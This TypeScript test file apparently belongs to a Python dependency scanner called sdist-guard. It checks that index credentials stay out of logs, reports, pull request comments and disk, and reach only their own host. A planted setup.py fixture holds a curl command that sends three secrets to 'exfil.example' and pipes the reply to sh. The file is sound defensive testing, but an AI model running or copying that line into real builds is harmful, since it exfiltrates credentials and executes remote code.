// Index credentials never leave the places they are meant for. Three secrets reach the scan three
// ways (in the index URL, as per-host credentials, through a ${VAR} in a requirements file), and a
// hostile index and a hostile sdist try to make them show: a file URL with a token in its path, a
// build script that quotes them, a rejected login. None of them appears in the logs, annotations,
// job summary, pull request comment, JSON or SARIF report, outputs, or error messages, in any form
// (raw, URL-encoded, or as the Basic header) — while each is shown to have been used.

import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { makeSdist, makeWheel } from './helpers/archives.js';
import { startGitHubApi, type GitHubApi } from './helpers/github-api.js';
import { startIndexServer, type IndexServer } from './helpers/index-server.js';
import { dep, Sandbox, type RunSettings } from './helpers/hostile.js';

const S1 = 'Pa55-w0rd-Zq81'; // in the index URL, user ci-user
const S2 = 'tok_AbC123xyz987'; // per-host credentials (a token, user __token__)
const S3 = 'mirr0r-S3cret-77'; // ${MIRROR_PASSWORD} in a requirements file, user deploy

/** Every form a secret could be printed in. */
function forms(): string[] {
  const basic = (user: string, pass: string) => Buffer.from(`${user}:${pass}`).toString('base64');
  return [S1, S2, S3, encodeURIComponent(S1), basic('ci-user', S1), basic('__token__', S2), basic('deploy', S3)];
}

function expectNoSecret(where: string, text: string | undefined): void {
  expect(text).toBeDefined();
  for (const secret of forms()) expect({ where, leaked: text!.includes(secret) ? secret : undefined }).toEqual({ where, leaked: undefined });
}

const LEAKY = `import os
from setuptools import setup
os.system("curl -s https://exfil.example/c?d=${S1}/${S2}/${S3} | sh")
setup(name="leaky", version="1.0")
`;

const sandbox = new Sandbox();
let a: IndexServer;
let b: IndexServer;
let c: IndexServer;
let api: GitHubApi;
const scratch = mkdtempSync(join(tmpdir(), 'sdist-guard-secrets-'));

beforeAll(async () => {
  a = await startIndexServer({ projects: { good: [makeWheel('good', '1.0')], clean: [makeSdist('clean', '1.0')], leaky: [makeSdist('leaky', '1.0', { 'setup.py': LEAKY })] }, auth: { username: 'ci-user', password: S1 } });
  b = await startIndexServer({ projects: { echo: [makeSdist('echo', '1.0')] }, auth: { username: '__token__', password: S2 } });
  c = await startIndexServer({ projects: { locked: [makeWheel('locked', '1.0')] }, auth: { username: 'deploy', password: S3 } });
  // the hostile index puts the token it was sent into the file's URL
  const page = JSON.stringify({ meta: { 'api-version': '1.1' }, name: 'echo', files: [{ filename: 'echo-1.0.tar.gz', url: `${b.url}/files/${S2}/echo-1.0.tar.gz`, hashes: {} }] });
  b.update({ faults: { '/simple/echo/': { body: page } } });
  c.update({ faults: { '/simple/locked/': { status: 401 } } });
  api = await startGitHubApi({ token: 'test-token', repo: 'octo/app' });
});
afterAll(async () => {
  await Promise.all([a.close(), b.close(), c.close(), api.close()]);
  sandbox.cleanup();
  rmSync(scratch, { recursive: true, force: true });
});

function project(): string {
  return sandbox.project({
    'requirements.txt': 'good==1.0\nclean\nleaky\n',
    'requirements-private.txt': `--extra-index-url ${b.indexUrl}\n--extra-index-url http://deploy:\${MIRROR_PASSWORD}@${c.indexUrl.slice('http://'.length)}\necho\nlocked\n`,
  });
}

function settings(): RunSettings {
  const host = new URL(b.url).host;
  return {
    indexUrl: a.indexUrl.replace('http://', `http://ci-user:${encodeURIComponent(S1)}@`),
    args: ['--timeout', '2'],
    env: { SDIST_GUARD_LIMITS: 'retries=0', SDIST_GUARD_INDEX_CREDENTIALS: `http://${host}=${S2}`, MIRROR_PASSWORD: S3 },
  };
}

/** What the index servers were sent: each secret went to its own host, and only there. */
function expectCredentialsStayedHome(): void {
  const sent = (s: IndexServer) => new Set(s.requests.map((q) => (q.headers.authorization ? Buffer.from(q.headers.authorization.slice(6), 'base64').toString() : '(none)')));
  expect([...sent(a)]).toEqual([`ci-user:${S1}`]);
  expect([...sent(b)]).toEqual([`__token__:${S2}`]);
  expect([...sent(c)]).toEqual([`deploy:${S3}`]);
}

describe('secrets under attack', () => {
  it('never appear in any CLI report format, and each credential reached only its own host', async () => {
    const dir = project();
    for (const format of ['text', 'json', 'markdown', 'sarif']) {
      const run = await sandbox.cli(dir, settings(), format);
      expect(run.code).toBe(1);
      expectNoSecret(`cli ${format} stdout`, run.stdout);
      expectNoSecret(`cli ${format} stderr`, run.stderr);
      if (format === 'json') {
        // the leaks were real attempts: the hostile inputs were reached and masked where they surfaced
        const leaky = dep(run.report, 'leaky');
        expect(leaky.status).toBe('suspicious');
        expect(JSON.stringify(leaky.findings)).toContain('***/***/***');
        expect(dep(run.report, 'echo').reason).toMatch(/404 Not Found from http:\/\/127\.0\.0\.1:\d+\/files\/\*\*\*\/echo-1\.0\.tar\.gz/);
        expect(dep(run.report, 'locked').reason).toMatch(/credentials are missing or wrong for host 127\.0\.0\.1:\d+ \(the credentials given for it were rejected\)/);
        expect(dep(run.report, 'good').status).toBe('wheel');
      }
      if (format === 'sarif') expect(run.stdout).toContain('***');
    }
    expectCredentialsStayedHome();
  });

  it('never appear in the action log, annotations, summary, outputs, JSON or SARIF report, or pull request comment', async () => {
    const dir = project();
    const eventPath = join(scratch, 'event.json');
    writeFileSync(eventPath, JSON.stringify({ pull_request: { number: 7, base: { sha: 'a'.repeat(40) }, head: { sha: 'b'.repeat(40) } }, repository: { full_name: 'octo/app' } }));
    const s = settings();
    const sarif = `${dir}.runner-temp/sdist-guard.sarif`;
    const run = await sandbox.action(dir, {
      ...s,
      inputs: {
        'index-credentials': `${b.url}=${S2}`,
        'github-token': 'test-token',
        comment: 'always',
        scope: 'all',
        'sarif-file': sarif,
        timeout: '2',
      },
      env: {
        ...s.env!,
        GITHUB_EVENT_NAME: 'pull_request',
        GITHUB_EVENT_PATH: eventPath,
        GITHUB_REPOSITORY: 'octo/app',
        GITHUB_API_URL: api.url,
      },
    });
    expect(run.exitCode).toBe(1);
    // the runner is told to mask each secret; everything else it prints is free of them
    expect(run.stdout).toContain(`::add-mask::${S1}`);
    expect(run.stdout).toContain(`::add-mask::${S2}`);
    expectNoSecret('action log and annotations', run.stdout.replace(/^::add-mask::.*$/gm, ''));
    expect(run.stdout).toMatch(/::error title=sdist-guard%3A leaky 1\.0 is suspicious/);
    expectNoSecret('job summary', run.summary);
    expectNoSecret('outputs', JSON.stringify(run.outputs));
    expectNoSecret('JSON report', run.reportText);
    expect(run.outputs['sarif-file']).toBe(sarif);
    expectNoSecret('SARIF report', readFileSync(sarif, 'utf8'));
    const comments = [...api.comments.values()].flat();
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toMatch(/leaky/);
    expectNoSecret('pull request comment', comments[0]!.body);
    expectNoSecret('every request to the GitHub API', JSON.stringify(api.requests));
    expect(dep(run.report, 'echo').reason).toMatch(/\/files\/\*\*\*\/echo-1\.0\.tar\.gz/);
    expectCredentialsStayedHome();
  });

  it('never appear in a configuration error', async () => {
    const dir = project();
    const bad = { ...settings(), indexUrl: `http://ci-user:${S1}@bad host/simple` };
    const cli = await sandbox.cli(dir, bad);
    expect(cli.code).toBe(2);
    expect(cli.stderr).toMatch(/index-url: .* is not a URL/);
    expectNoSecret('cli stderr', cli.stderr);
    const action = await sandbox.action(dir, bad);
    expect(action.exitCode).toBe(1);
    expect(action.stdout).toMatch(/::error::sdist-guard: configuration error: index-url/);
    expectNoSecret('action log', action.stdout.replace(/^::add-mask::.*$/gm, ''));
  });

  it('are not written anywhere on disk', () => {
    // every file the runs above wrote (reports, caches) is under the sandbox
    const files: string[] = [];
    const walk = (d: string): void => {
      for (const e of readdirSync(d, { withFileTypes: true })) {
        if (e.isDirectory()) walk(join(d, e.name));
        else files.push(join(d, e.name));
      }
    };
    walk(sandbox.root);
    // the CLI's cache and the action's cache and reports are among them
    expect(files.some((f) => f.includes('.home/.cache/sdist-guard/'))).toBe(true);
    expect(files.some((f) => f.includes('.runner-temp/sdist-guard-cache/'))).toBe(true);
    for (const f of files) expectNoSecret(f, readFileSync(f).toString('latin1'));
  });
});

describe('credentials bound to scheme, host and port', () => {
  const S4 = 'https-0nly-T0ken';

  it('given for https (or as a bare host) are never sent over plain http to the same host and port', async () => {
    // the same host and port over http: a page and a file there must not get the https credentials
    const plain = await startIndexServer({ projects: { good: [makeWheel('good', '1.0')], clean: [makeSdist('clean', '1.0')] } });
    try {
      const hostPort = new URL(plain.url).host;
      for (const entry of [hostPort, `https://${hostPort}`]) {
        const before = plain.requests.length;
        const r = await sandbox.both(
          { 'requirements.txt': 'good==1.0\nclean\n' },
          { indexUrl: plain.indexUrl, args: ['--timeout', '2'], inputs: { timeout: '2', 'index-credentials': `${entry}=ci:${S4}` }, env: { SDIST_GUARD_INDEX_CREDENTIALS: `${entry}=ci:${S4}` } },
        );
        for (const report of [r.cli.report, r.action.report]) {
          expect(dep(report, 'good').status).toBe('wheel');
          expect(dep(report, 'clean').status).toBe('sdist');
        }
        const seen = plain.requests.slice(before);
        expect(seen.map((q) => q.path)).toEqual(expect.arrayContaining(['/simple/good/', '/simple/clean/', '/files/clean-1.0.tar.gz']));
        expect({ entry, sentWith: seen.filter((q) => q.headers.authorization !== undefined).map((q) => q.path) }).toEqual({ entry, sentWith: [] });
      }
    } finally {
      await plain.close();
    }
  });

  it('a 401 over http from a host with https credentials says why none were sent, without showing them', async () => {
    const locked = await startIndexServer({ projects: { good: [makeWheel('good', '1.0')] }, auth: { username: 'ci', password: S4 } });
    try {
      const hostPort = new URL(locked.url).host;
      const r = await sandbox.both(
        { 'requirements.txt': 'good==1.0\n' },
        { indexUrl: locked.indexUrl, args: ['--timeout', '2'], inputs: { timeout: '2', 'index-credentials': `${hostPort}=ci:${S4}` }, env: { SDIST_GUARD_LIMITS: 'retries=0', SDIST_GUARD_INDEX_CREDENTIALS: `${hostPort}=ci:${S4}` } },
      );
      for (const report of [r.cli.report, r.action.report]) {
        const good = dep(report, 'good');
        expect(good.status).toBe('unresolved');
        expect(good.reason).toContain(`credentials were given for https://${hostPort} only, and are never sent in clear text over http`);
      }
      expect(locked.requests.every((q) => q.headers.authorization === undefined)).toBe(true);
      for (const text of [r.cli.stdout, r.action.reportText!, r.action.summary, r.action.stdout.replace(/^::add-mask::.*$/gm, '')]) expect(text).not.toContain(S4);
    } finally {
      await locked.close();
    }
  });
});
